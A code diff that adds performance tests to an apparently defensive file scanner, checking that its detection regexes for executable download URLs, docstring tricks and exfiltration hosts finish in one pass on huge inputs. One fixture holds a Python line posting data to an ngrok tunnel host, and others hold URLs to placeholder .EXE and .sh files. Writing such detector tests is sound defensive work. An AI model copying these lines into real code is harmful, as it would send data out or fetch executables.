@@ -7,6 +7,9 @@ import { describe, expect, it } from 'vitest';
 import { RULES } from './index.js';
 import { rulesOf, scan } from '../testing.js';
 import type { ArchiveKind } from '../../archive/index.js';
+import { EXECUTABLE_URL } from './download.js';
+import { closesDocstring } from './obfuscation.js';
+import { inProse } from './util.js';
 
 interface Case {
   name: string;
@@ -561,5 +564,37 @@ describe('the prefilter', () => {
     const off = await scan(c.files, c.kind, c.archive, { prefilter: false });
     expect(threats(on)).toEqual(threats(off));
     expect(on.score).toBe(off.score);
+  });
+});
+
+describe('hostile strings are read in one pass', () => {
+  it('a 400 KB literal of `HTTP:///` is searched for executable URLs once', () => {
+    // The regex retried at each `http://` and read to the end of the word every time.
+    const word = 'HTTP:///'.repeat(50_000);
+    expect(EXECUTABLE_URL.exec(`${word} x`)).toBeNull();
+    expect(EXECUTABLE_URL.exec(`${word} see http://203.0.113.5/a/placeholder.EXE?x=1 now`)?.[0]).toBe('http://203.0.113.5/a/placeholder.EXE?x=1 ');
+    expect(EXECUTABLE_URL.exec(`'http://203.0.113.5/placeholder.sh'`)?.index).toBe(1);
+  });
+
+  it('a line of 100,000 `"""#` before a line separator is judged in one pass', () => {
+    // `['"]{3}\s*(#.*)?$` failed at the separator from every one of them, reading to it each time.
+    expect(closesDocstring(`${'"""#'.repeat(100_000)}\u2028x`)).toBe(false);
+    expect(closesDocstring(`${'"""#'.repeat(100_000)}\u2028"""  # done`)).toBe(true);
+    expect(closesDocstring(`  text"""\u2028 `)).toBe(true);
+    expect(closesDocstring(`"""x#""`)).toBe(false);
+  });
+
+  it('a string with a 200,000-letter word is judged prose or not in one pass', () => {
+    // `[A-Za-z]{2,}[,.:;]?(?=\s)` retried at every letter of a word without a blank after it.
+    expect(inProse(`${'A'.repeat(200_000)},`, 'x')).toBe(false);
+    expect(inProse(`Send it to x when you are done: ${'A'.repeat(200_000)}`, 'x')).toBe(true);
+  });
+});
+
+describe('hostile strings for the drop addresses', () => {
+  it('a 200 KB string of `a-` is searched for drop hosts in one pass', async () => {
+    // `\b[\w-]+\.host` was tried at each of its 100,000 word starts, reading to the end every time.
+    const r = await scan(mod(lines('import requests', `x = '${'a-'.repeat(100_000)}'`, "requests.post('https://x-1.ngrok.io/c', data=x)")));
+    expect(rulesOf(r)).toContain('exfil-endpoint');
   });
 });
